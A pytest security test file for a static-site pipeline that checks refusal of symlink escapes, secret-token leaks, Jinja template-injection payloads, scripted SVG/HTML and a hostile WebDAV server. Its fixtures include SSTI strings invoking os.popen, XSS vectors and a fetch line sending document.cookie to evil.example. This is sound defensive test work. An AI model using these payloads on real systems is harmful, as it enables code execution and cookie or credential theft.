"""A pull request cannot hurt whoever builds or previews it: links, special files and templates, each with a folder outside the site proven untouched."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from conftest import article, hebrew, run, validate_json

from pipeline.build import serve

TOKEN = "tok-3f9a1c55e0d2-secret"
PAIR = {"content/en/a.md": article(), "content/he/a.md": hebrew()}


@pytest.fixture
def outside(tmp_path: Path):
    """A folder beside the site, with a secret in it; after the test, exactly as it was."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(f"the secret {TOKEN}\n", encoding="utf-8")
    (folder / "usercustomize.py").write_text("print('hello')\n", encoding="utf-8")
    before = _snapshot(folder)
    yield folder
    assert _snapshot(folder) == before, "a folder outside the site was changed"


def _snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {p.relative_to(folder).as_posix(): (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.rglob("*")) if p.is_file()}


def _everything(root: Path, *results) -> str:
    """All the commands printed and every text file under the site, for searching a secret in."""
    text = "".join(r.stdout + r.stderr for r in results)
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            text += path.read_bytes().decode("utf-8", "replace")
    return text


def test_a_committed_public_link_does_not_send_the_build_elsewhere(make_site, outside):
    empty = outside / "site-packages"
    empty.mkdir()
    root = make_site(PAIR)
    (root / "public").symlink_to(empty)
    result = run("build", "--root", str(root))
    assert result.exit_code == 2
    assert "it is a link" in result.stderr
    assert list(empty.iterdir()) == []
    empty.rmdir()


def test_a_folder_named_with_out_may_be_a_link(make_site, tmp_path):
    real = tmp_path / "real-out"
    real.mkdir()
    (tmp_path / "link-out").symlink_to(real)
    root = make_site(PAIR)
    assert run("build", "--root", str(root), "--out", str(tmp_path / "link-out")).exit_code == 0
    assert (real / "en/a/index.html").is_file()


@pytest.mark.parametrize("link", [".pipeline-cache", ".pipeline-cache/bodies"])
def test_a_cache_link_is_neither_written_through_nor_emptied(make_site, outside, tmp_path, link):
    root = make_site(PAIR)
    (root / link).parent.mkdir(exist_ok=True)
    (root / link).symlink_to(outside)
    first = run("build", "--root", str(root), "--out", str(tmp_path / "out"))
    assert first.exit_code == 0, first.stdout + first.stderr
    assert "no build cache" in first.stderr and "is a link" in first.stderr
    (root / "content/en/a.md").write_text(article(body="Changed.\n"), encoding="utf-8")
    again = run("build", "--root", str(root), "--out", str(tmp_path / "out"))
    assert again.exit_code == 0
    assert "Changed." in (tmp_path / "out/en/a/index.html").read_text("utf-8")


def test_the_body_store_deletes_only_packs_it_made(make_site, tmp_path):
    root = make_site(PAIR)
    assert run("build", "--root", str(root), "--out", str(tmp_path / "out")).exit_code == 0
    keep = root / ".pipeline-cache/bodies/notes.txt"
    keep.write_text("mine", encoding="utf-8")
    (root / "content/en/a.md").write_text(article(body="Changed.\n"), encoding="utf-8")
    assert run("build", "--root", str(root), "--out", str(tmp_path / "out")).exit_code == 0
    assert keep.read_text("utf-8") == "mine"


def test_a_template_cannot_run_commands_or_read_the_environment(make_site, outside, tmp_path, monkeypatch):
    monkeypatch.setenv("NETLIFY_AUTH_TOKEN", TOKEN)
    pwned = outside / "pwned"
    payloads = (
        f"{{{{ cycler.__init__.__globals__.os.popen('touch {pwned}').read() }}}}",
        "{{ lipsum.__globals__['os'].environ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ self._TemplateReference__context.environment.globals }}",
    )
    for payload in payloads:
        root = make_site({**PAIR, "templates/article.html": '{% extends "base.html" %}{% block content %}' + payload + "{% endblock %}"})
        result = run("build", "--root", str(root), "--out", str(tmp_path / "out"))
        assert result.exit_code == 1, payload
        assert "template-error" in result.stdout, payload
        assert not pwned.exists(), payload
        assert TOKEN not in _everything(root, result), payload
        assert not (tmp_path / "out").exists()


def test_a_template_linked_to_proc_environ_is_refused(make_site, tmp_path, monkeypatch):
    monkeypatch.setenv("NETLIFY_AUTH_TOKEN", TOKEN)
    root = make_site(PAIR)
    (root / "templates").mkdir()
    (root / "templates/article.html").symlink_to("/proc/self/environ")
    checked = validate_json(root)
    assert checked.exit_code == 1
    assert ("templates/article.html", 1, 1, "path-unsafe") in checked.diagnostics
    built = run("build", "--root", str(root), "--out", str(tmp_path / "out"))
    assert built.exit_code == 1
    assert TOKEN not in _everything(root, checked, built)
    assert not (tmp_path / "out").exists()


def test_validate_parses_the_site_templates(make_site):
    root = make_site({**PAIR, "templates/partials/notice.html": "<p>\n\n{{ x | }}\n"})
    result = validate_json(root)
    assert result.exit_code == 1
    assert [d for d in result.diagnostics if d[3] == "template-error"] == [("templates/partials/notice.html", 3, 1, "template-error")]


@pytest.mark.parametrize("where", ["content/en/b.md", "content/he", "locales/he/LC_MESSAGES/messages.po", "schemas/article.schema.json"])
def test_a_link_to_a_file_outside_is_not_read_nor_echoed(make_site, outside, where):
    root = make_site(
        {"content/en/a.md": article(), "content/he/a.md": hebrew()} if where != "content/he" else {"content/en/a.md": article()}
    )
    (root / where).parent.mkdir(parents=True, exist_ok=True)
    (root / where).symlink_to(outside / "secret.txt" if where != "content/he" else outside)
    result = validate_json(root)
    assert result.exit_code in (1, 2)
    refused = (where, 1, 1, "path-unsafe") if not where.startswith("schemas/") else ("site.yaml", 1, 1, "config-invalid")
    assert refused in result.diagnostics
    assert TOKEN not in result.stdout + result.stderr
    github = run("validate", "--root", str(root), "--format", "github")
    assert TOKEN not in github.stdout + github.stderr


def test_site_yaml_linked_outside_is_refused(make_site, outside):
    root = make_site(PAIR, site_yaml=None)
    (root / "site.yaml").symlink_to(outside / "secret.txt")
    result = validate_json(root)
    assert result.exit_code == 2
    assert result.diagnostics == [("site.yaml", 1, 1, "path-unsafe")]
    assert TOKEN not in result.stdout + result.stderr


def test_special_files_are_not_read(make_site, tmp_path):
    root = make_site(PAIR)
    (root / "static").mkdir()
    (root / "static/zero.bin").symlink_to("/dev/zero")
    os.mkfifo(root / "content/en/pipe.md")
    started = time.monotonic()
    result = validate_json(root)
    assert time.monotonic() - started < 10
    assert result.exit_code == 1
    assert {("static/zero.bin", 1, 1, "path-unsafe"), ("content/en/pipe.md", 1, 1, "path-unsafe")} <= set(result.diagnostics)
    assert run("build", "--root", str(root), "--out", str(tmp_path / "out")).exit_code == 1
    assert not (tmp_path / "out").exists()


def test_serve_live_refuses_a_current_link_that_leaves_the_target(make_site, tmp_path):
    root = make_site(PAIR)
    (root / "published").mkdir()
    (root / "published/current").symlink_to("/etc")
    result = run("serve", "--root", str(root), "--live", "--port", "0")
    assert result.exit_code == 1
    assert "not to one of its deploys" in result.stderr


def test_a_local_target_folder_that_is_a_link_is_refused(make_site, outside):
    root = make_site(PAIR)
    (root / "published").symlink_to(outside)
    result = run("publish", "--root", str(root))
    assert result.exit_code == 2
    assert "must be a folder inside the site" in result.stderr
    (root / "published").unlink()
    (root / "elsewhere").mkdir()
    (root / "published").symlink_to(root / "elsewhere")  # inside the site, but still a link the publish would write through
    again = run("publish", "--root", str(root))
    assert again.exit_code == 2
    assert "is a link" in again.stderr
    assert list((root / "elsewhere").iterdir()) == []


def test_the_preview_server_does_not_follow_links(tmp_path, outside):
    folder = tmp_path / "deploy"
    folder.mkdir()
    (folder / "index.html").write_text("home", encoding="utf-8")
    (folder / "leak.txt").symlink_to(outside / "secret.txt")
    (folder / "etc").symlink_to(outside)
    httpd = serve.server(folder, 0)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    try:
        with urllib.request.urlopen(f"{base}/index.html") as answer:
            assert answer.read() == b"home"
        for path in ("/leak.txt", "/etc/secret.txt", "/../outside/secret.txt"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(base + path)
            assert refused.value.code == 404
            refused.value.close()
    finally:
        httpd.shutdown()
        httpd.server_close()


def _netlify_site(make_site, api_url: str, hosts: str = "") -> Path:
    yaml = (
        "base_url: https://example.org/\nsource_locale: en\nlocales:\n  en: {name: English}\n  he: {name: עברית, unverified: off}\n"
        f"targets:\n  default:\n    type: netlify\n    site_id: s1\n    api_url: {api_url}\n{hosts}"
    )
    return make_site(PAIR, site_yaml=yaml)


@pytest.mark.parametrize(
    ("api_url", "hosts", "complaint"),
    [
        ("https://collector.example/api/v1", "", "only sent to the hosts listed under `token_hosts`"),
        ("http://api.netlify.com/api/v1", "", "only sent over https"),
        ("http://collector.example/api/v1", "    token_hosts: [collector.example]\n", "only sent over https"),
    ],
)
def test_the_token_goes_only_to_allowed_https_hosts(make_site, monkeypatch, api_url, hosts, complaint):
    monkeypatch.setenv("NETLIFY_AUTH_TOKEN", TOKEN)
    root = _netlify_site(make_site, api_url, hosts)
    result = run("publish", "--root", str(root))
    assert result.exit_code == 2
    assert complaint in result.stderr
    assert TOKEN not in _everything(root, result)


def test_a_token_with_a_newline_is_refused_without_showing_it(make_site, monkeypatch):
    monkeypatch.setenv("NETLIFY_AUTH_TOKEN", TOKEN[:8] + "\n" + TOKEN[8:])
    root = _netlify_site(make_site, "https://api.netlify.com/api/v1")
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "publish", "--root", str(root)], capture_output=True, text=True, timeout=120, check=False
    )
    assert result.returncode == 2
    assert "holds a space, a newline or a control character" in result.stderr
    assert TOKEN[:8] not in result.stdout + result.stderr and TOKEN[8:] not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "url",
    [
        "https://me:hunter2secret@dav.example.org:port/blog/",
        "https://me:hunter2secret@[dav/blog/",
        "htps://me:hunter2secret@dav.example.org/blog/",
        "https://me:hunter2secret@dav.example.org/blog",
    ],
)
def test_a_password_in_a_malformed_webdav_url_is_not_echoed(make_site, url):
    yaml = (
        "base_url: https://example.org/\nsource_locale: en\nlocales:\n  en: {name: English}\n  he: {name: עברית, unverified: off}\n"
        f"targets:\n  default:\n    type: webdav\n    url: '{url}'\n"
    )
    root = make_site(PAIR, site_yaml=yaml)
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "publish", "--root", str(root)], capture_output=True, text=True, timeout=120, check=False
    )
    assert result.returncode == 2
    assert "hunter2secret" not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


def test_a_bug_prints_a_located_line_and_never_a_traceback(tmp_path):
    script = (
        "import click, pipeline.cli.main as m\n"
        "@click.command('boom')\n"
        f"def boom():\n    raise RuntimeError('the token is {TOKEN}')\n"
        "m.cli.add_command(boom)\n"
        "m.main()\n"
    )
    result = subprocess.run([sys.executable, "-c", script, "boom"], capture_output=True, text=True, timeout=120, check=False, cwd=tmp_path)
    assert result.returncode == 70
    assert "pipeline: internal error: RuntimeError" in result.stderr and "please report it" in result.stderr
    assert TOKEN not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


SCRIPTED_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
  <rect width="10" height="10"/>
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <a xlink:href="java&#x09;script:alert(1)"><text>x</text></a>
  <image href="x" onload="alert(1)"/>
  <foreignObject><iframe src="https://evil.example/"></iframe></foreignObject>
</svg>
"""
ENTITY_SVG = """<?xml version="1.0"?>
<!DOCTYPE svg [ <!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;"> ]>
<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>
"""


def test_scripts_in_static_svg_and_html_are_refused_where_they_are(make_site, tmp_path):
    root = make_site(
        {**PAIR, "static/images/bad.svg": SCRIPTED_SVG, "static/page.html": "<p>hi</p>\n<p><img src=x onerror=alert(1)></p>\n"}
    )
    result = validate_json(root)
    assert result.exit_code == 1
    found = [(path, line) for path, line, _, code in result.diagnostics if code == "static-unsafe"]
    assert found == [
        ("static/images/bad.svg", 3),
        ("static/images/bad.svg", 4),
        ("static/images/bad.svg", 5),
        ("static/images/bad.svg", 6),
        ("static/images/bad.svg", 6),
        ("static/page.html", 2),
    ]
    assert run("build", "--root", str(root), "--out", str(tmp_path / "out")).exit_code == 1
    assert not (tmp_path / "out").exists()


def test_plain_svg_is_published_and_previewed_under_a_policy_that_runs_nothing(make_site, tmp_path):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><a href="/en/"><circle r="4"/></a></svg>\n'
    root = make_site({**PAIR, "static/images/ok.svg": svg})
    out = tmp_path / "out"
    assert run("build", "--root", str(root), "--out", str(out)).exit_code == 0
    assert (out / "images/ok.svg").read_text("utf-8") == svg
    httpd = serve.server(out, 0)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{httpd.server_address[1]}/images/ok.svg") as answer:
            assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
            assert "sandbox" in answer.headers["Content-Security-Policy"]
    finally:
        httpd.shutdown()
        httpd.server_close()


HOSTILE_CHILDREN = "".join(
    f"<D:response><D:href>{href}</D:href><D:propstat><D:prop><D:resourcetype><D:collection/></D:resourcetype></D:prop>"
    "<D:status>HTTP/1.1 200 OK</D:status></D:propstat></D:response>"
    for href in ("/sites/.dav.deploys/..", "/sites/.dav.deploys/../blog", "/sites/", "/sites/.dav.deploys/%2e%2e/", "/elsewhere/x")
)


def test_a_hostile_webdav_server_naming_a_child_dot_dot_gets_nothing_outside_deleted(tmp_path, monkeypatch):
    from cheroot import wsgi
    from test_target_webdav import FIRST, dav_app

    from pipeline.publish.targets.webdav import from_config

    folder = tmp_path / "dav"
    (folder / "sites").mkdir(parents=True)
    (folder / "sites/keep-me.txt").write_text("not the tool's", encoding="utf-8")
    app, deletes = dav_app(folder), []

    def hostile(environ, start_response):
        method, path = environ["REQUEST_METHOD"], environ["PATH_INFO"]
        if method == "DELETE":
            deletes.append(path)
        if method != "PROPFIND" or environ.get("HTTP_DEPTH") != "1":
            return app(environ, start_response)
        captured = {}
        body = b"".join(app(environ, lambda status, headers, exc_info=None: captured.update(status=status, headers=headers)))
        if captured["status"].startswith("207"):
            text = body.decode("utf-8")
            prefix = text[text.rindex("</") + 2 : text.rindex(":multistatus>")]
            body = text.replace(
                f"</{prefix}:multistatus>", HOSTILE_CHILDREN.replace("D:", f"{prefix}:") + f"</{prefix}:multistatus>"
            ).encode()
        start_response(
            captured["status"],
            [(k, v) for k, v in captured["headers"] if k.lower() != "content-length"] + [("Content-Length", str(len(body)))],
        )
        return [body]

    httpd = wsgi.Server(("127.0.0.1", 0), hostile)
    httpd.expiration_interval = 0.05
    httpd.prepare()
    thread = threading.Thread(target=httpd.serve, daemon=True)
    thread.start()
    monkeypatch.setenv("WEBDAV_USERNAME", "tester")
    monkeypatch.setenv("WEBDAV_PASSWORD", "s3cret")
    try:
        url = f"http://127.0.0.1:{httpd.bind_addr[1]}/sites/blog/"
        target = from_config("dav", {"type": "webdav", "url": url, "retry_base": 0, "keep": 1}, Path("."))
        for round_ in range(3):
            target.publish({**FIRST, "index.html": f"round {round_}".encode()}, False, lambda path, size: None)
    finally:
        httpd.stop()
        thread.join(5)
    assert (folder / "sites/keep-me.txt").read_text("utf-8") == "not the tool's"
    assert (folder / "sites/blog/index.html").read_bytes() == b"round 2"
    assert all(
        path.startswith(("/sites/.dav.deploys/2", "/sites/.dav.staging/", "/sites/.dav.journal/", "/sites/.dav.lock", "/sites/blog/"))
        for path in deletes
    ), deletes


@pytest.mark.parametrize("accept", [False, True])
def test_translate_never_writes_through_a_link(make_site, outside, accept):
    root = make_site({"content/en/a.md": article()})
    (root / "content/he").mkdir()
    (root / "content/he/a.md").symlink_to(outside / ("secret.txt" if accept else "new.md"))
    args = ["translate", "--root", str(root), "he", "a"] + (["--accept"] if accept else [])
    result = run(*args)
    assert result.exit_code == 2
    assert "is a link" in result.stderr
    assert not (outside / "new.md").exists()


def test_validate_renders_the_site_templates_and_locates_a_failure(make_site, tmp_path):
    template = '{% extends "base.html" %}{% block content %}\n<p>fine</p>\n{{ article.nope.deeper }}\n{% endblock %}'
    root = make_site({**PAIR, "templates/article.html": template})
    result = validate_json(root)
    assert result.exit_code == 1
    assert ("templates/article.html", 3, 1, "template-error") in result.diagnostics
    assert "'dict object' has no attribute 'nope'" in result.messages["template-error"]
    sandboxed = make_site(
        {
            **PAIR,
            "templates/article.html": '{% extends "base.html" %}{% block content %}\n{{ cycler.__init__.__globals__ }}\n{% endblock %}',
        }
    )
    refused = validate_json(sandboxed)
    assert ("templates/article.html", 2, 1, "template-error") in refused.diagnostics
    clean = make_site(
        {**PAIR, "templates/article.html": '{% extends "base.html" %}{% block content %}<p>{{ article.title }}</p>{% endblock %}'}
    )
    assert validate_json(clean).exit_code == 0
